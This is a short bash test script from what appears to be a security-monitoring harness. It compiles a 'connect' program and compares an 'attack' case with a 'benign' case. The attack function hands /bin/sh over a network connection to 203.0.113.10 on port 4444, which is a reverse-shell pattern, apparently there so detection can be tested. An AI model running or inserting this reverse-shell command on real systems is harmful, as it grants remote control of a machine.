#!/usr/bin/env bash
# A shell is started on a connection to somebody else's machine.
. "$(dirname "$0")/../lib/harness.sh"

build() { compile connect "$sample/connect.c"; }
prepare() {
    uplink 4444
    install "$scratch/connect" /srv/connect
}

# What comes back is a line of text that is no command.
attack() {
    /srv/connect 203.0.113.10 4444 /bin/sh 2>/dev/null || true
}

# A program that is none that runs commands.
benign() {
    /srv/connect 203.0.113.10 4444 /usr/bin/wc -c >/dev/null
}

record_command
